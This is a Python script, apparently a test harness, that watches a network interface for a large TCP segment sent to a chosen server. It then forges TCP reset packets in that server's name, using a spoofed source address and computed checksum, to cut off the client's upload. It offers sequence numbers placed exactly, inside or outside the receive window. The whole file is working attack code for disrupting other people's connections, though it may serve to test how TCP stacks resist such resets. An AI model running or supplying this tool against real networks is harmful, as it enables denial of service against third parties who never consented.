#!/usr/bin/env python3
"""Tries to end other people's TCP uploads with resets in the server's name, knowing what an eavesdropper knows.

usage: reset_forger.py INTERFACE SERVER exact|inside|outside COUNT

Waits on INTERFACE for a full segment to SERVER (IPv4) and sends COUNT resets to its sender, one a millisecond. In an upload
the server says nothing, so the number that the client expects next, which its segment acknowledges, stays the same. The
resets carry that number (exact), one inside the client's window beyond it (inside), or one far outside (outside).
Prints "ready" once it listens and "sent COUNT" at the end.
"""

import socket
import struct
import sys
import time
from collections import namedtuple

ETH_P_IP = 0x0800
FULL_SEGMENT_BYTES = 1000  # what carries less is a request's header, which the server still answers
FAR_OUTSIDE = 1 << 30
RST = 0x04
WAIT_SECONDS = 20

Segment = namedtuple("Segment", "source source_port destination_port acknowledgment window")


def wait_for_upload(tap, server):
    """The first full TCP segment to the server."""
    while True:
        packet = tap.recv(65535)
        header_bytes = (packet[0] & 15) * 4
        total_bytes = struct.unpack_from("!H", packet, 2)[0]
        if packet[9] != socket.IPPROTO_TCP or packet[16:20] != server:
            continue
        ports_and_numbers = struct.unpack_from("!HHIIBBH", packet, header_bytes)
        source_port, destination_port, _, acknowledgment, offset, _, window = ports_and_numbers
        if total_bytes - header_bytes - (offset >> 4) * 4 >= FULL_SEGMENT_BYTES:
            return Segment(packet[12:16], source_port, destination_port, acknowledgment, window)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def reset(server, segment, sequence):
    """A reset as RFC 9293 §3.10.7.1 makes one that answers a segment with ACK: no acknowledgment of its own."""
    fields = [segment.destination_port, segment.source_port, sequence, 0, 5 << 4, RST, 0, 0, 0]
    pseudo_header = server + segment.source + struct.pack("!HH", socket.IPPROTO_TCP, 20)
    fields[7] = checksum(pseudo_header + struct.pack("!HHIIBBHHH", *fields))
    return struct.pack("!HHIIBBHHH", *fields)


def main():
    if len(sys.argv) != 5 or sys.argv[3] not in ("exact", "inside", "outside") or not sys.argv[4].isdecimal():
        sys.exit(__doc__)
    interface, address, placement, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    server = socket.inet_aton(address)
    with (
        socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP)) as tap,
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as raw,
    ):
        tap.bind((interface, ETH_P_IP))
        tap.settimeout(WAIT_SECONDS)
        raw.bind((address, 0))
        print("ready", flush=True)
        segment = wait_for_upload(tap, server)
        # The window before scaling is a lower bound of the window.
        beyond = {"exact": 0, "inside": segment.window // 2, "outside": FAR_OUTSIDE}[placement]
        forged = reset(server, segment, (segment.acknowledgment + beyond) & 0xFFFFFFFF)
        client = (socket.inet_ntoa(segment.source), 0)
        for _ in range(count):
            raw.sendto(forged, client)
            time.sleep(0.001)
        print(f"sent {count}", flush=True)


if __name__ == "__main__":
    main()
